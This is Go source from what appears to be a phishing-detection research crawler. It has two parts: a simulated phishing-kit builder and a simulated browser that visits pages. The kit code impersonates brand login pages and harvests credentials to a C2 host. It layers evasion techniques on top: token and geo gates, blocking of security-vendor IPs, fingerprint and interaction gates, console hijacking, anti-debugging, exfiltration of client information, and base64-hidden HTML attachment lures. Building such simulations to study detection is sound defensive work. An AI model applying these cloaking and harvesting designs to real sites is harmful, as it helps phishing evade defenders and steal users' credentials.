package phishkit

import (
	"fmt"
	"strings"
	"sync"
	"time"

	"crawlerbox/internal/botdetect"
	"crawlerbox/internal/cloak"
	"crawlerbox/internal/webnet"
)

// SiteConfig assembles one phishing deployment from kit building blocks.
// Zero values disable each layer.
type SiteConfig struct {
	// Host is the landing domain.
	Host string
	// Brand is the impersonated organization.
	Brand Brand
	// LandingPath is the tokenized path (default "/login").
	LandingPath string

	// --- server-side cloaking ---

	// Tokens enables the tokenized-URL gate with these values (param "t").
	Tokens []string
	// MobileOnly restricts to mobile user agents (QR campaigns).
	MobileOnly bool
	// BlockScannerIPs hides from datacenter/security-vendor address space.
	BlockScannerIPs bool
	// Countries geo-restricts the page when non-empty.
	Countries []string
	// ActivateAt delays activation when non-zero.
	ActivateAt time.Time

	// --- challenge services ---

	// Turnstile gates the page behind the challenge service when set.
	Turnstile *botdetect.Turnstile
	// ReCaptcha runs the background scorer after the page loads when set.
	ReCaptcha *botdetect.ReCaptchaV3

	// --- client-side cloaking ---

	// FingerprintGate requires the UA/timezone/language triple.
	FingerprintGate bool
	// ExpectedTimezone / ExpectedLanguage configure the gate
	// (defaults: Europe/Paris, en-US).
	ExpectedTimezone string
	ExpectedLanguage string
	// InteractionGate requires a trusted mouse event.
	InteractionGate bool
	// DelayedRevealMs reveals after a timer when > 0.
	DelayedRevealMs int
	// OTPCode gates behind a one-time password when non-empty.
	OTPCode string
	// MathChallenge gates behind a trivial equation when true.
	MathChallenge bool
	// VictimCheckC2 enables the victim-database check against this host.
	VictimCheckC2 string
	// ConsoleHijack suppresses console output.
	ConsoleHijack bool
	// DebuggerTimer starts the anti-debugging loop (reports to C2Host).
	DebuggerTimer bool
	// HueRotateDeg perturbs the page colors when non-zero.
	HueRotateDeg int
	// HotLoadBrandAssets loads the logo from the brand's real servers —
	// the defensive-telemetry opportunity of Section V-A.
	HotLoadBrandAssets bool
	// FPLibraryHost includes an open-source fingerprinting library (BotD
	// style) from this host — the punctual kit of Section V-C2c.
	FPLibraryHost string
	// ExfiltrateClientInfo posts IP/geo/UA to the C2 before revealing.
	ExfilHTTPBin string
	ExfilIPAPI   string
	// C2Host receives exfiltrated data and harvested credentials
	// (defaults to the landing host itself).
	C2Host string
}

// Site is a deployed phishing site.
type Site struct {
	Config SiteConfig
	// LandingURL is a ready-to-send URL (first token applied, if any).
	LandingURL string
	gate       *cloak.TokenGate

	mu sync.Mutex
	// Harvested records credentials posted to the collector.
	Harvested []Credentials // guarded by mu
	// VictimDB is the allowlist the victim-check script queries.
	VictimDB map[string]bool // guarded by mu
}

// Credentials is one harvested submission.
type Credentials struct {
	Email    string
	Password string
	ClientIP string
}

// Deploy builds the handler chain and serves the site on the network.
func Deploy(net *webnet.Internet, cfg SiteConfig) *Site {
	if cfg.LandingPath == "" {
		cfg.LandingPath = "/login"
	}
	if cfg.C2Host == "" {
		cfg.C2Host = cfg.Host
	}
	if cfg.ExpectedTimezone == "" {
		cfg.ExpectedTimezone = "Europe/Paris"
	}
	if cfg.ExpectedLanguage == "" {
		cfg.ExpectedLanguage = "en-US"
	}
	site := &Site{Config: cfg, VictimDB: map[string]bool{}}

	core := func(req *webnet.Request) *webnet.Response {
		switch {
		case req.Path == "/session" && req.Method == "POST":
			site.recordCreds(req)
			return &webnet.Response{Status: 302, Headers: map[string]string{
				"Location": "https://" + cfg.Brand.Domain + "/login"}}
		case req.Path == "/check":
			email := queryValue(req.RawQuery, "email")
			if site.victimAllowed(urlDecode(email)) {
				return &webnet.Response{Status: 200, Body: []byte("allow")}
			}
			return &webnet.Response{Status: 200, Body: []byte("deny")}
		case req.Path == "/collect" && req.Method == "POST":
			return &webnet.Response{Status: 200, Body: []byte("ok")}
		case strings.HasPrefix(req.Path, "/assets/"):
			return &webnet.Response{Status: 200,
				Headers: map[string]string{"Content-Type": "image/png"},
				Body:    []byte("LOGO:" + cfg.Brand.Name)}
		case req.Path == "/debug-detected":
			return &webnet.Response{Status: 200, Body: []byte("ok")}
		case strings.HasPrefix(req.Path, cfg.LandingPath):
			return site.landingResponse(req)
		default:
			return &webnet.Response{Status: 404, Body: []byte("not found")}
		}
	}

	var mws []cloak.Middleware
	if !cfg.ActivateAt.IsZero() {
		mws = append(mws, cloak.DelayedActivation(net.Clock, cfg.ActivateAt))
	}
	if cfg.MobileOnly {
		mws = append(mws, cloak.UserAgentFilter("iPhone", "Android", "Mobile"))
	}
	if cfg.BlockScannerIPs {
		mws = append(mws, cloak.IPClassBlocklist(net, webnet.IPDatacenter, webnet.IPSecurityVendor))
	}
	if len(cfg.Countries) > 0 {
		mws = append(mws, cloak.GeoFilter(net, cfg.Countries...))
	}
	if len(cfg.Tokens) > 0 {
		site.gate = cloak.NewTokenGate("t", cfg.Tokens...)
		mws = append(mws, tokenGateExcept(site.gate, "/check", "/collect", "/debug-detected"))
	}
	handler := cloak.Chain(core, mws...)

	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS(cfg.Host, ip)
	net.Serve(cfg.Host, handler)

	site.LandingURL = "https://" + cfg.Host + cfg.LandingPath
	if len(cfg.Tokens) > 0 {
		site.LandingURL += "?t=" + cfg.Tokens[0]
	}
	return site
}

// tokenGateExcept applies the token gate to everything except support
// endpoints the page's own scripts call.
func tokenGateExcept(gate *cloak.TokenGate, exempt ...string) cloak.Middleware {
	inner := gate.Middleware()
	return func(next webnet.Handler) webnet.Handler {
		gated := inner(next)
		return func(req *webnet.Request) *webnet.Response {
			for _, path := range exempt {
				if req.Path == path {
					return next(req)
				}
			}
			return gated(req)
		}
	}
}

// landingResponse serves the (possibly challenge-wrapped) landing page.
func (s *Site) landingResponse(req *webnet.Request) *webnet.Response {
	cfg := s.Config
	// Turnstile gate first: no clearance token -> challenge page. The gate
	// target preserves the full original query (minus stale tokens) so
	// layered cloaks survive the hop.
	if cfg.Turnstile != nil && !cfg.Turnstile.ValidToken(queryValue(req.RawQuery, "__cft")) {
		gatePath := cfg.LandingPath
		if rest := stripParam(req.RawQuery, "__cft"); rest != "" {
			gatePath += "?" + rest
		}
		return htmlResponse(cfg.Turnstile.GateHTML(gatePath, "__cft"))
	}
	if cfg.OTPCode != "" && queryValue(req.RawQuery, "otp") != cfg.OTPCode {
		return htmlResponse(cloak.OTPGatePage(cfg.OTPCode, cfg.LandingPath+"?otp="+cfg.OTPCode))
	}
	if cfg.MathChallenge && queryValue(req.RawQuery, "solved") != "1" {
		return htmlResponse(cloak.MathChallenge(7, 5, cfg.LandingPath+"?solved=1"))
	}
	return htmlResponse(s.loginHTML(req))
}

// stripParam removes every key=value pair for the given key from a query.
func stripParam(raw, key string) string {
	if raw == "" {
		return ""
	}
	var kept []string
	for _, kv := range strings.Split(raw, "&") {
		if !strings.HasPrefix(kv, key+"=") {
			kept = append(kept, kv)
		}
	}
	return strings.Join(kept, "&")
}

// loginHTML assembles the final phishing login page with every configured
// client-side layer.
func (s *Site) loginHTML(req *webnet.Request) string {
	cfg := s.Config
	victim := ""
	if tok := queryValue(req.RawQuery, "t"); tok != "" {
		victim = tok + "@" + "corp.example" // tokenized spear phish addresses
	}
	// Kits either hot-load the logo from the brand's real servers or ship
	// their own copy; either way the page shows one.
	logo := "https://" + cfg.Host + "/assets/logo.png"
	if cfg.HotLoadBrandAssets {
		logo = "https://" + cfg.Brand.Domain + "/assets/logo.png"
	}
	post := "https://" + cfg.Host + "/session"

	// The revealed page may be gated by client-side cloaks; in that case
	// the visible document starts benign and the gate decodes the real
	// form from base64.
	realPage := LoginPageHTML(cfg.Brand, LoginPageOptions{
		PostURL:     post,
		LogoURL:     logo,
		VictimEmail: victim,
	})
	innerBody := extractBody(realPage)

	var head strings.Builder
	if cfg.HueRotateDeg != 0 {
		head.WriteString("<script>" + cloak.HueRotate(cfg.HueRotateDeg) + "</script>")
	}
	if cfg.Turnstile != nil {
		// Kits keep the challenge script tag on the final page too.
		head.WriteString(`<script src="https://` + cfg.Turnstile.Host() + `/challenge.js"></script>`)
	}
	if cfg.FPLibraryHost != "" {
		head.WriteString(`<script src="https://` + cfg.FPLibraryHost + `/botd.js"></script>`)
	}

	var scripts []string
	if cfg.ConsoleHijack {
		scripts = append(scripts, cloak.ConsoleHijack())
	}
	if cfg.DebuggerTimer {
		scripts = append(scripts, cloak.DebuggerTimer(cfg.C2Host))
	}
	if cfg.ExfilHTTPBin != "" && cfg.ExfilIPAPI != "" {
		scripts = append(scripts, cloak.ExfiltrateClientInfo(cfg.ExfilHTTPBin, cfg.ExfilIPAPI, cfg.C2Host))
	}
	gated := cfg.FingerprintGate || cfg.InteractionGate || cfg.DelayedRevealMs > 0 || cfg.VictimCheckC2 != ""
	var bodyContent string
	if gated {
		b64 := cloak.EncodeBase64HTML(innerBody)
		bodyContent = "<p>Loading...</p>"
		switch {
		case cfg.VictimCheckC2 != "":
			scripts = append(scripts, cloak.VictimCheck(cfg.VictimCheckC2, b64))
		case cfg.FingerprintGate:
			scripts = append(scripts, cloak.FingerprintGate("Chrome",
				cfg.ExpectedTimezone, cfg.ExpectedLanguage, b64))
		case cfg.InteractionGate:
			scripts = append(scripts, cloak.InteractionGate(b64))
		case cfg.DelayedRevealMs > 0:
			scripts = append(scripts, cloak.DelayedReveal(b64, cfg.DelayedRevealMs))
		}
	} else {
		bodyContent = innerBody
	}

	var sb strings.Builder
	sb.WriteString("<html><head><title>")
	sb.WriteString(cfg.Brand.Name)
	sb.WriteString("</title>")
	sb.WriteString(head.String())
	if cfg.Brand.DarkTheme {
		sb.WriteString(`</head><body style="background:#222222">`)
	} else {
		sb.WriteString("</head><body>")
	}
	sb.WriteString(bodyContent)
	if cfg.ReCaptcha != nil {
		sb.WriteString(`<script src="https://` + cfg.ReCaptcha.Host() + `/api.js"></script>`)
	}
	for _, sc := range scripts {
		if sc == "" {
			continue
		}
		sb.WriteString("<script>")
		sb.WriteString(sc)
		sb.WriteString("</script>")
	}
	sb.WriteString("</body></html>")
	return sb.String()
}

func extractBody(html string) string {
	start := strings.Index(html, "<body")
	if start < 0 {
		return html
	}
	open := strings.IndexByte(html[start:], '>')
	end := strings.LastIndex(html, "</body>")
	if open < 0 || end < 0 || end <= start+open {
		return html
	}
	return html[start+open+1 : end]
}

func htmlResponse(html string) *webnet.Response {
	return &webnet.Response{Status: 200,
		Headers: map[string]string{"Content-Type": "text/html"},
		Body:    []byte(html)}
}

func (s *Site) recordCreds(req *webnet.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.Harvested = append(s.Harvested, Credentials{
		Email:    formValue(req.Body, "email"),
		Password: formValue(req.Body, "password"),
		ClientIP: req.ClientIP,
	})
}

// AddVictim registers an address in the attacker's target database.
func (s *Site) AddVictim(email string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.VictimDB[strings.ToLower(email)] = true
}

func (s *Site) victimAllowed(email string) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.VictimDB[strings.ToLower(email)]
}

// TokenGate exposes the site's token gate (nil when not configured).
func (s *Site) TokenGate() *cloak.TokenGate { return s.gate }

func queryValue(raw, key string) string {
	for _, kv := range strings.Split(raw, "&") {
		parts := strings.SplitN(kv, "=", 2)
		if len(parts) == 2 && parts[0] == key {
			return parts[1]
		}
	}
	return ""
}

func formValue(body, key string) string {
	// Accept both form encoding and the JSON the kits post.
	if v := queryValue(body, key); v != "" {
		return v
	}
	marker := fmt.Sprintf(`"%s":"`, key)
	if idx := strings.Index(body, marker); idx >= 0 {
		rest := body[idx+len(marker):]
		if end := strings.IndexByte(rest, '"'); end >= 0 {
			return rest[:end]
		}
	}
	return ""
}

func urlDecode(s string) string {
	var sb strings.Builder
	for i := 0; i < len(s); i++ {
		switch {
		case s[i] == '+':
			sb.WriteByte(' ')
		case s[i] == '%' && i+2 < len(s):
			sb.WriteByte(hexByte(s[i+1])<<4 | hexByte(s[i+2]))
			i += 2
		default:
			sb.WriteByte(s[i])
		}
	}
	return sb.String()
}

func hexByte(c byte) byte {
	switch {
	case c >= '0' && c <= '9':
		return c - '0'
	case c >= 'a' && c <= 'f':
		return c - 'a' + 10
	case c >= 'A' && c <= 'F':
		return c - 'A' + 10
	default:
		return 0
	}
}

// HTMLAttachment builds the standalone HTML attachment lure of Section
// V-B: opened locally, it loads external multimedia from legitimate hosts
// and either rewrites the window location (windowRedirect) or embeds the
// phishing page in an iframe without changing the visible URL.
func HTMLAttachment(targetURL, mediaHost string, windowRedirect bool) string {
	b64 := cloak.EncodeBase64HTML(targetURL)
	action := `document.body.setInnerHTML('<iframe src="' + target + '"></iframe>');`
	if windowRedirect {
		action = `location.href = target;`
	}
	return fmt.Sprintf(`<html><head></head>
<body style="background:url(https://%s/bg.png)">
<img src="https://%s/banner.png" alt="document preview">
<script>
var target = atob(%q);
%s
</script>
</body></html>`, mediaHost, mediaHost, b64, action)
}
