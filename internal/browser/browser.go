package browser

import (
	"context"
	"errors"
	"fmt"
	"math/rand"
	neturl "net/url"
	"strconv"
	"strings"
	"time"

	"crawlerbox/internal/htmlx"
	"crawlerbox/internal/imaging"
	"crawlerbox/internal/minijs"
	"crawlerbox/internal/obs"
	"crawlerbox/internal/resilience"
	"crawlerbox/internal/webnet"
)

// ErrTooManyRedirects indicates the navigation chain exceeded the limit.
var ErrTooManyRedirects = errors.New("browser: too many redirects")

// Browser drives page visits with a given fingerprint profile over the
// simulated internet.
type Browser struct {
	Net     *webnet.Internet
	Profile Profile
	// Clock is the virtual clock this browser reads and advances (Date.now,
	// performance.now, timers, request latency). New sets it to the shared
	// network clock; a corpus runner replaces it with a per-analysis fork so
	// concurrent analyses never advance each other's time.
	Clock *webnet.Clock
	// Trace, when set, records a visit span per navigation and threads
	// itself onto every network request so round trips record child spans.
	// The corpus runner binds it to the analysis's per-message trace.
	Trace *obs.Trace
	// Resilience, when set, is the per-analysis fault/retry session: the
	// browser threads it onto every request (arming webnet's seeded fault
	// injection), retries transient failures with backoff charged to the
	// virtual clock, and honors the per-host circuit breaker. Nil disarms
	// the layer — one attempt per request, exactly the pre-resilience
	// behavior.
	Resilience *resilience.Session
	// ClientIP is the crawler's egress address; its provenance class is a
	// server-side cloaking input.
	ClientIP string
	// MaxRedirects bounds the navigation chain (HTTP + script + meta).
	MaxRedirects int
	// ScriptFuel is the execution budget per script.
	ScriptFuel int64
	// EventLoopWindow is how much virtual time the browser waits for
	// delayed content. Impatient crawlers miss delayed-reveal cloaking.
	EventLoopWindow time.Duration
	// MaxTimerFires bounds event-loop iterations.
	MaxTimerFires int
	rng           *rand.Rand
	cookies       cookieJar
}

// New returns a browser with sensible crawl defaults.
func New(net *webnet.Internet, profile Profile, clientIP string, seed int64) *Browser {
	return &Browser{
		Net:             net,
		Clock:           net.Clock,
		Profile:         profile,
		ClientIP:        clientIP,
		MaxRedirects:    10,
		ScriptFuel:      400_000,
		EventLoopWindow: 30 * time.Second,
		MaxTimerFires:   60,
		//cblint:ignore determinism generator is seeded from the caller-supplied seed
		rng: rand.New(rand.NewSource(seed)),
	}
}

func (b *Browser) random() float64 { return b.rng.Float64() }

// clock returns the browser's virtual clock, falling back to the shared
// network clock for zero-value Browsers built without New.
func (b *Browser) clock() *webnet.Clock {
	if b.Clock != nil {
		return b.Clock
	}
	return b.Net.Clock
}

// RequestRecord is one network request made during a visit.
type RequestRecord struct {
	URL       string
	Method    string
	Initiator string // document, script, img, iframe, xhr, stylesheet
	Referer   string
	Status    int
	Err       string
}

// page is the per-document execution context.
type page struct {
	br           *Browser
	ctx          context.Context
	url          *neturl.URL
	doc          *htmlx.Node
	interp       *minijs.Interp
	domCache     map[*htmlx.Node]*minijs.Object
	handlers     map[string][]handlerEntry
	timers       []*timer
	nextTimerID  int
	console      []string
	scripts      []string
	errors       []string
	debuggerHits int
	pendingNav   string
	locationObj  *minijs.Object
	windowObj    *minijs.Object
	referrer     string
	frames       []*htmlx.Node
	rec          *recorder
	depth        int
}

// recorder accumulates request records across the whole visit, plus the
// degradation marker the classifier reads: whether any request in the visit
// exhausted its retries or was short-circuited by an open breaker.
type recorder struct {
	requests []RequestRecord
	degraded bool
}

func (pg *page) host() string { return pg.url.Hostname() }

// context returns the visit's context (Background for zero-value pages).
func (pg *page) context() context.Context {
	if pg.ctx == nil {
		//cblint:ignore ctxflow zero-value pages have no caller context to fall back to
		return context.Background()
	}
	return pg.ctx
}

// Visit navigates to rawURL and returns the fully processed result. The
// context cancels the visit between round trips and event-loop turns; a
// cancelled visit returns the partial result accumulated so far with the
// context's error.
func (b *Browser) Visit(ctx context.Context, rawURL string) (*Result, error) {
	rec := &recorder{}
	span := b.Trace.Start(obs.SpanVisit, "visit "+obs.SanitizeURL(rawURL))
	res, err := b.navigate(ctx, rawURL, "", rec, 0)
	b.finishVisitSpan(span, res, err)
	return res, err
}

// finishVisitSpan annotates and closes a visit span. URL attributes are
// sanitized: final URLs can carry schedule-dependent clearance tokens in
// their query, which must not reach the deterministic trace.
func (b *Browser) finishVisitSpan(span *obs.Span, res *Result, err error) {
	if span == nil {
		return
	}
	if res != nil {
		span.SetAttr("final_url", obs.SanitizeURL(res.FinalURL))
		span.SetAttr("status", strconv.Itoa(res.Status))
		span.SetAttr("requests", strconv.Itoa(len(res.Requests)))
		span.SetAttr("navigations", strconv.Itoa(len(res.Navigations)))
		if res.Degraded {
			span.SetAttr("degraded", "true")
		}
	}
	if err != nil {
		span.SetStatus(obs.StatusError)
		span.SetAttr("error", err.Error())
	}
	span.End()
}

// Result is everything CrawlerBox logs about one crawl.
type Result struct {
	RequestedURL string
	FinalURL     string
	Status       int
	DOM          *htmlx.Node
	Frames       []*htmlx.Node
	HTML         string
	Screenshot   *imaging.Image
	Console      []string
	Scripts      []string
	Requests     []RequestRecord
	ScriptErrors []string
	DebuggerHits int
	Navigations  []string
	// Degraded reports that at least one request during the visit gave up
	// after exhausting its retry budget or hitting an open circuit breaker:
	// the rest of the result is whatever evidence was still gathered, and
	// the classifier downgrades such messages to OutcomePartial rather than
	// treating them as fully measured.
	Degraded bool
}

func (b *Browser) navigate(ctx context.Context, rawURL, referrer string, rec *recorder, depth int) (*Result, error) {
	current := rawURL
	var navigations []string
	var lastPage *page
	var lastStatus int
	for hop := 0; ; hop++ {
		if err := ctx.Err(); err != nil {
			return partialResult(rawURL, current, navigations, rec, lastPage, lastStatus), err
		}
		if hop > b.MaxRedirects {
			return partialResult(rawURL, current, navigations, rec, lastPage, lastStatus),
				fmt.Errorf("%w: %d hops", ErrTooManyRedirects, hop)
		}
		navigations = append(navigations, current)
		resp, err := b.fetch(ctx, "GET", current, "document", referrer, nil, "", rec)
		if err != nil {
			return partialResult(rawURL, current, navigations, rec, lastPage, lastStatus), err
		}
		lastStatus = resp.Status
		if resp.Status >= 300 && resp.Status < 400 {
			loc := resp.Header("Location")
			if loc == "" {
				break
			}
			referrer = current
			current = resolveAgainst(current, loc)
			continue
		}
		pg, err := b.processDocument(ctx, current, referrer, string(resp.Body), rec, depth)
		if err != nil {
			return partialResult(rawURL, current, navigations, rec, lastPage, lastStatus), err
		}
		lastPage = pg
		if pg.pendingNav != "" {
			referrer = current
			current = resolveAgainst(current, pg.pendingNav)
			continue
		}
		break
	}
	return assembleResult(rawURL, current, navigations, rec, lastPage, lastStatus), nil
}

// LoadHTML processes an HTML document that was opened locally (the HTML
// attachment vector of Section V-B): no initial network fetch, a file://
// base URL, and any navigation or frame loads happen over the network.
func (b *Browser) LoadHTML(ctx context.Context, html, fileName string) (*Result, error) {
	rec := &recorder{}
	base := "file:///" + fileName
	span := b.Trace.Start(obs.SpanVisit, "load "+base)
	res, err := b.loadHTML(ctx, base, html, rec)
	b.finishVisitSpan(span, res, err)
	return res, err
}

// loadHTML is LoadHTML without the visit span.
func (b *Browser) loadHTML(ctx context.Context, base, html string, rec *recorder) (*Result, error) {
	pg, err := b.processDocument(ctx, base, "", html, rec, 0)
	if err != nil {
		return nil, err
	}
	if pg.pendingNav != "" {
		// The attachment redirected the window to an external URL.
		return b.navigate(ctx, resolveAgainst(base, pg.pendingNav), "", rec, 0)
	}
	return assembleResult(base, base, []string{base}, rec, pg, 200), nil
}

// processDocument parses and executes one document. depth tracks nested
// frame navigation so iframe chains terminate.
func (b *Browser) processDocument(ctx context.Context, pageURL, referrer, html string, rec *recorder, depth int) (*page, error) {
	u, err := neturl.Parse(pageURL)
	if err != nil {
		return nil, fmt.Errorf("browser: parsing page URL %q: %w", pageURL, err)
	}
	pg := &page{
		br:       b,
		ctx:      ctx,
		url:      u,
		doc:      htmlx.Parse(html),
		interp:   minijs.New(b.ScriptFuel),
		domCache: map[*htmlx.Node]*minijs.Object{},
		referrer: referrer,
		rec:      rec,
		depth:    depth,
	}
	pg.setupEnvironment()

	// Subresources in document order.
	for _, link := range htmlx.ExtractLinks(pg.doc) {
		if link.Inline {
			continue
		}
		switch link.Tag {
		case "img":
			pg.fetchSubresource(link.URL, "img")
		case "link":
			pg.fetchSubresource(link.URL, "stylesheet")
		case "iframe", "frame":
			pg.loadFrame(link.URL)
		case "meta":
			if pg.pendingNav == "" {
				pg.pendingNav = link.URL
			}
		}
	}

	// Scripts in document order.
	for _, script := range htmlx.ExtractScripts(pg.doc) {
		if script.Src != "" {
			pg.runExternalScript(script.Src)
		} else if strings.TrimSpace(script.Source) != "" {
			pg.runScript(script.Source, "inline")
		}
		if pg.pendingNav != "" {
			break
		}
	}

	// Human-ish input activity, if the profile generates any.
	if pg.pendingNav == "" && b.Profile.MouseMovement {
		for i := 0; i < 5; i++ {
			pg.dispatchEvent(nil, "mousemove", b.Profile.TrustedEvents)
		}
		pg.dispatchEvent(nil, "scroll", b.Profile.TrustedEvents)
	}

	// Delayed content.
	if pg.pendingNav == "" {
		pg.runEventLoop()
	}
	return pg, nil
}

// runScript executes one script, recording its source for the census.
func (pg *page) runScript(src, kind string) {
	pg.scripts = append(pg.scripts, src)
	pg.interp.AddFuel(pg.br.ScriptFuel)
	if _, err := pg.interp.Eval(src); err != nil {
		pg.errors = append(pg.errors, kind+": "+err.Error())
	}
	pg.checkNavigation()
}

// runExternalScript fetches and executes a script URL.
func (pg *page) runExternalScript(ref string) {
	resp, err := pg.request("GET", ref, "script", nil, "")
	if err != nil || resp.Status != 200 {
		return
	}
	pg.runScript(string(resp.Body), "external:"+ref)
}

// fetchSubresource fetches a passive resource (image, stylesheet).
func (pg *page) fetchSubresource(ref, kind string) {
	_, _ = pg.request("GET", ref, kind, nil, "")
}

// loadFrame loads an iframe document. Up to a bounded depth, frames are
// fully processed — scripts run, their own subresources load, their
// redirects are followed — exactly as a real browser treats them. Beyond
// the depth cap the frame is fetched and parsed statically.
func (pg *page) loadFrame(ref string) {
	const maxFrameDepth = 2
	abs := pg.resolveRef(ref)
	if pg.depth >= maxFrameDepth {
		resp, err := pg.request("GET", ref, "iframe", nil, "")
		if err != nil || resp.Status != 200 {
			return
		}
		pg.frames = append(pg.frames, htmlx.Parse(string(resp.Body)))
		return
	}
	res, err := pg.br.navigate(pg.context(), abs, pg.url.String(), pg.rec, pg.depth+1)
	if err != nil || res == nil || res.DOM == nil {
		return
	}
	pg.frames = append(pg.frames, res.DOM)
	pg.frames = append(pg.frames, res.Frames...)
	pg.scripts = append(pg.scripts, res.Scripts...)
	pg.console = append(pg.console, res.Console...)
}

// resolveRef resolves a possibly relative reference against the page URL.
func (pg *page) resolveRef(ref string) string {
	return resolveAgainst(pg.url.String(), ref)
}

func resolveAgainst(base, ref string) string {
	bu, err := neturl.Parse(base)
	if err != nil {
		return ref
	}
	ru, err := neturl.Parse(ref)
	if err != nil {
		return ref
	}
	return bu.ResolveReference(ru).String()
}

// fetch performs one network request with the profile's header surface.
func (b *Browser) fetch(ctx context.Context, method, rawURL, initiator, referrer string,
	extraHeaders map[string]string, body string, rec *recorder) (*webnet.Response, error) {
	u, err := neturl.Parse(rawURL)
	if err != nil {
		recAppend(rec, RequestRecord{URL: rawURL, Method: method, Initiator: initiator, Err: err.Error()})
		return nil, fmt.Errorf("browser: parsing URL %q: %w", rawURL, err)
	}
	if u.Scheme == "file" {
		recAppend(rec, RequestRecord{URL: rawURL, Method: method, Initiator: initiator, Status: 200})
		return &webnet.Response{Status: 200}, nil
	}
	headers := map[string]string{
		"User-Agent": b.Profile.UserAgent,
		"Accept":     "text/html,application/xhtml+xml,*/*;q=0.8",
	}
	if b.Profile.SendAcceptLanguage {
		headers["Accept-Language"] = strings.Join(b.Profile.Languages, ",")
	}
	if b.Profile.InterceptionCacheQuirk {
		headers["Cache-Control"] = "no-cache"
		headers["Pragma"] = "no-cache"
	}
	if referrer != "" && !strings.HasPrefix(referrer, "file:") {
		headers["Referer"] = referrer
	}
	if cookie := b.cookieFor(u.Hostname()); cookie != "" {
		headers["Cookie"] = cookie
	}
	for k, v := range extraHeaders {
		headers[k] = v
	}
	req := &webnet.Request{
		Method:         method,
		Host:           u.Hostname(),
		Path:           pathOrRoot(u),
		RawQuery:       u.RawQuery,
		Headers:        headers,
		Body:           body,
		ClientIP:       b.ClientIP,
		TLSFingerprint: b.Profile.TLSFingerprint,
		Clock:          b.clock(),
		Trace:          b.Trace,
		Faults:         b.Resilience,
	}
	resp, degraded, err := b.doResilient(ctx, req)
	if degraded && rec != nil {
		rec.degraded = true
	}
	record := RequestRecord{
		URL: rawURL, Method: method, Initiator: initiator,
		Referer: headers["Referer"],
	}
	if err != nil {
		record.Err = err.Error()
		recAppend(rec, record)
		return nil, err
	}
	record.Status = resp.Status
	recAppend(rec, record)
	if sc := resp.Header("Set-Cookie"); sc != "" && b.Profile.CookiesEnabled {
		b.setCookie(u.Hostname(), sc)
	}
	return resp, nil
}

// doResilient performs one round trip under the resilience session's
// policy: the per-host breaker gates the attempt, transient failures
// (NXDOMAIN, unreachable, timeout, reset, 5xx) are retried with exponential
// backoff and deterministic jitter charged to the visit's virtual clock,
// and every wait records a retry span. The degraded return is true when the
// operation gave up — retries exhausted, stage budget spent, or breaker
// open — in which case the caller marks the visit partially measured. With
// no session armed it is exactly one b.Net.Do call.
func (b *Browser) doResilient(ctx context.Context, req *webnet.Request) (resp *webnet.Response, degraded bool, err error) {
	s := b.Resilience
	if s == nil {
		resp, err = b.Net.Do(ctx, req)
		return resp, false, err
	}
	host := req.Host
	if !s.Allow(host) {
		b.recordShortCircuit(host)
		return nil, true, fmt.Errorf("browser: skipping %q: %w", host, resilience.ErrCircuitOpen)
	}
	attempt := 1
	resp, err = b.Net.Do(ctx, req)
	for {
		reason := retryReason(resp, err)
		if reason == "" {
			if err == nil {
				s.ReportSuccess(host)
				if attempt > 1 {
					s.RecordRecovered()
				}
			}
			return resp, false, err
		}
		s.ReportFailure(host)
		if ctx.Err() != nil {
			return resp, false, err
		}
		if !s.Allow(host) {
			// Our own failures opened the circuit mid-retry: give up with
			// whatever the last attempt produced.
			b.recordShortCircuit(host)
			s.RecordExhausted()
			if err != nil {
				return nil, true, &resilience.ExhaustedError{Attempts: attempt, Err: err}
			}
			return resp, true, nil
		}
		d, ok := s.NextBackoff(attempt)
		if !ok {
			s.RecordExhausted()
			if err != nil {
				return nil, true, &resilience.ExhaustedError{Attempts: attempt, Err: err}
			}
			// A retried-out 5xx still carries a response; the visit keeps
			// it as partial evidence.
			return resp, true, nil
		}
		sp := b.Trace.StartAt(obs.SpanRetry, "retry "+host, b.clock().Now())
		sp.SetAttr("attempt", strconv.Itoa(attempt))
		sp.SetAttr("reason", reason)
		sp.SetAttr("backoff_ns", strconv.FormatInt(int64(d), 10))
		b.clock().Advance(d)
		sp.EndAt(b.clock().Now())
		attempt++
		resp, err = b.Net.Do(ctx, req)
	}
}

// recordShortCircuit drops a zero-length retry span marking a request the
// open breaker refused to send, so the fault-recovery table can count
// short-circuits from the trace alone.
func (b *Browser) recordShortCircuit(host string) {
	sp := b.Trace.StartAt(obs.SpanRetry, "breaker "+host, b.clock().Now())
	sp.SetAttr("reason", "breaker-open")
	sp.SetStatus(obs.StatusError)
	sp.EndAt(b.clock().Now())
}

// retryReason classifies a round-trip result as retryable ("" = final): a
// transient network error or a 5xx overload answer.
func retryReason(resp *webnet.Response, err error) string {
	switch {
	case err == nil:
		if resp != nil && resp.Status >= 500 {
			return "5xx"
		}
		return ""
	case errors.Is(err, webnet.ErrNXDomain):
		return "nxdomain"
	case errors.Is(err, webnet.ErrReset):
		return "reset"
	case errors.Is(err, webnet.ErrTimeout):
		return "timeout"
	case errors.Is(err, webnet.ErrUnreachable):
		return "unreachable"
	default:
		return ""
	}
}

func pathOrRoot(u *neturl.URL) string {
	if u.Path == "" {
		return "/"
	}
	return u.Path
}

func recAppend(rec *recorder, r RequestRecord) {
	if rec != nil {
		rec.requests = append(rec.requests, r)
	}
}

// cookieJar stores cookies per host: host -> name -> value.
type cookieJar map[string]map[string]string

func (b *Browser) jar() cookieJar {
	if b.cookies == nil {
		b.cookies = cookieJar{}
	}
	return b.cookies
}

func (b *Browser) setCookie(host, setCookie string) {
	kv := strings.SplitN(strings.SplitN(setCookie, ";", 2)[0], "=", 2)
	if len(kv) != 2 {
		return
	}
	j := b.jar()
	if j[host] == nil {
		j[host] = map[string]string{}
	}
	j[host][strings.TrimSpace(kv[0])] = strings.TrimSpace(kv[1])
}

func (b *Browser) cookieFor(host string) string {
	if !b.Profile.CookiesEnabled {
		return ""
	}
	m := b.jar()[host]
	if len(m) == 0 {
		return ""
	}
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	// Deterministic order.
	for i := 1; i < len(keys); i++ {
		for j := i; j > 0 && keys[j] < keys[j-1]; j-- {
			keys[j], keys[j-1] = keys[j-1], keys[j]
		}
	}
	parts := make([]string, len(keys))
	for i, k := range keys {
		parts[i] = k + "=" + m[k]
	}
	return strings.Join(parts, "; ")
}

func (pg *page) cookieHeader() string {
	return pg.br.cookieFor(pg.host())
}

